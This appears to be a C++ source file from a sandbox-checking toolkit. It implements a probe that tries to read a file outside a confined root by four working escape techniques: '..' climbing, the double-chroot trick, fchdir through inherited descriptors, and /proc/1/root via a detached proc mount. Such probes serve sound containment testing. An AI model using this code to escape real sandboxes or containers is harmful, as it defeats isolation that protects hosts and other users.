#include "toolkit/check/probe/escape.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "toolkit/check/probe/files.hpp"

namespace toolkit::probe {
namespace {

constexpr int kDeepest = 1024;
constexpr const char* kCell = ".probe-cell";

const char* without_slashes(const char* path) {
  while (*path == '/') ++path;
  return path;
}

/// From the working directory up until ".." leads nowhere new: at the root of a process, or of all.
void climb() {
  struct stat before {};
  struct stat now {};
  for (int step = 0; step < kDeepest; ++step) {
    if (::stat(".", &before) == -1 || ::chdir("..") == -1 || ::stat(".", &now) == -1) return;
    if (before.st_ino == now.st_ino && before.st_dev == now.st_dev) return;
  }
}

bool read_here(const char* path, Text& found) {
  return read_first_line(AT_FDCWD, without_slashes(path), found) == 0;
}

bool is_own_root() {
  struct stat here {};
  struct stat root {};
  return ::stat(".", &here) == 0 && ::stat("/", &root) == 0 && here.st_ino == root.st_ino &&
         here.st_dev == root.st_dev;
}

/// Reads the path from where the climb ended, if that is outside.
bool climb_and_read(const char* path, Text& found) {
  climb();
  return !is_own_root() && read_here(path, found);
}

bool by_dot_dot(const char* path, Text& found) { return climb_and_read(path, found); }

/// Changes the root to a directory below "/", by preference to one that is there: nothing is left.
bool change_root_below() {
  DIR* root = ::opendir("/");
  if (root != nullptr) {
    while (const dirent* entry = ::readdir(root)) {
      if (entry->d_name[0] != '.' && entry->d_type == DT_DIR && ::chroot(entry->d_name) == 0) {
        ::closedir(root);
        return true;
      }
    }
    ::closedir(root);
  }
  if (::mkdir(kCell, 0700) == -1) return false;
  const bool changed = ::chroot(kCell) == 0;
  ::rmdir(kCell);
  return changed;
}

bool by_chroot(const char* path, Text& found) {
  if (::chdir("/") == -1 || !change_root_below()) return false;
  climb();
  if (::chroot(".") == -1) return false;
  return read_here(path, found);
}

bool by_descriptor(const char* path, Text& found) {
  constexpr int kMost = 4096;
  for (int fd = 0; fd < kMost; ++fd) {
    if (::fchdir(fd) == 0 && climb_and_read(path, found)) return true;
  }
  return false;
}

bool read_in_proc(int directory, const char* proc, const char* path, Text& found) {
  Text full;
  full.add(proc).add("1/root/").add(without_slashes(path));
  return read_first_line(directory, full.path(), found) == 0;
}

/// A proc that is mounted nowhere: it needs no directory and nobody sees it. See fsmount(2).
int detached_proc() {
  const auto context = static_cast<int>(::syscall(SYS_fsopen, "proc", FSOPEN_CLOEXEC));
  if (context == -1) return -1;
  ::syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, nullptr, nullptr, 0);
  return static_cast<int>(::syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0));
}

bool by_proc(const char* path, Text& found) {
  if (read_in_proc(AT_FDCWD, "/proc/", path, found)) return true;
  const int proc = detached_proc();
  return proc != -1 && read_in_proc(proc, "", path, found);
}

struct Attack {
  Way way;
  std::string_view name;
  bool (*read)(const char* path, Text& found);
};

constexpr std::array<Attack, 4> kAttacks = {{
    {Way::dot_dot, "dot-dot", by_dot_dot},
    {Way::chroot, "chroot", by_chroot},
    {Way::descriptor, "descriptor", by_descriptor},
    {Way::proc, "proc", by_proc},
}};

/// In a child: what it found comes back through a pipe.
bool succeeds(const Attack& attack, const char* path, Text& answer) {
  std::array<int, 2> ends{};
  if (::pipe2(ends.data(), O_CLOEXEC) == -1) return false;
  const pid_t child = ::fork();
  if (child == 0) {
    ::close(ends[0]);
    Text found;
    const bool out = attack.read(path, found);
    if (out) write_whole(ends[1], found.add("\n").view());
    ::_exit(out ? 0 : 1);
  }
  ::close(ends[1]);
  Text found;
  if (child != -1) read_rest(ends[0], found);
  ::close(ends[0]);
  int status = 0;
  while (child != -1 && ::waitpid(child, &status, 0) == -1 && errno == EINTR) {
  }
  std::string_view content = found.view();
  if (content.empty()) return false;
  content.remove_suffix(1);
  answer.add("ok ").add(attack.name).add(" ").add_one_line(content);
  return true;
}

}  // namespace

void escape(Way way, const char* path, Text& answer) noexcept {
  for (const Attack& attack : kAttacks) {
    if (attack.way == way && succeeds(attack, path, answer)) return;
  }
  answer.add("no");
}

void escape(const char* path, Text& answer) noexcept {
  for (const Attack& attack : kAttacks) {
    if (succeeds(attack, path, answer)) return;
  }
  answer.add("no");
}

}  // namespace toolkit::probe
